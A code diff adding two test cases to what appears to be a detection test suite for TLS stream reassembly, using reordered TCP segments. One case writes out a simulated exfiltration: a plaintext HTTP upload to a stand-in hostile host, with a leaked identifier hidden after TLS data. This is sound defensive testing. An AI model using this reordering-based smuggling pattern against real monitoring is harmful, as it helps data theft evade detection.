@@ -778,6 +778,52 @@ def case_after_reneg_reorder_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
+@case
+def case_after_reorder_ok(n):
+    """After the handshake, segments that overtake the one before them on
+    the path (the receiver gets both, so nothing is sent again): in each
+    direction, the segment with the rest of a record and the next record's
+    header and body comes before the body segment ahead of it."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42170, E2M, 270, n)
+    srv = tls_appdata(n + "s1", 1200) + marked_record(passm(n), n + "s2", 600)
+    base = t.sseq
+    t.raw(False, "PA", srv[:700], seq=base)
+    t.raw(False, "PA", srv[1100:], seq=base + 1100)
+    t.raw(False, "PA", srv[700:1100], seq=base + 700)
+    t.sseq = base + len(srv)
+    t.ack(True)
+    cli = tls_appdata(n + "c1", 300) + marked_record(passm(n), n + "c2", 200)
+    base = t.cseq
+    t.raw(True, "PA", cli[:150], seq=base)
+    t.raw(True, "PA", cli[250:], seq=base + 250)
+    t.raw(True, "PA", cli[150:250], seq=base + 150)
+    t.cseq = base + len(cli)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_after_reorder_plain(n):
+    """After the handshake, a record's body, then plaintext HTTP, where the
+    segment with the end of the body and the plaintext overtakes the body
+    segment ahead of it: read once the gap is filled, in the order the
+    server reads."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42171, E2M, 271, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    data = tls_appdata(n + "c1", 300) + http
+    base = t.cseq
+    t.raw(True, "PA", data[:150], seq=base)
+    t.raw(True, "PA", data[250:], seq=base + 250)
+    t.raw(True, "PA", data[150:250], seq=base + 150)
+    t.cseq = base + len(data)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
 def after_insert(n, send_decoy, established=None):
     """After the handshake, a well-framed application data record that the
     server discards (send_decoy(t, decoy, base): how it is sent), then, at
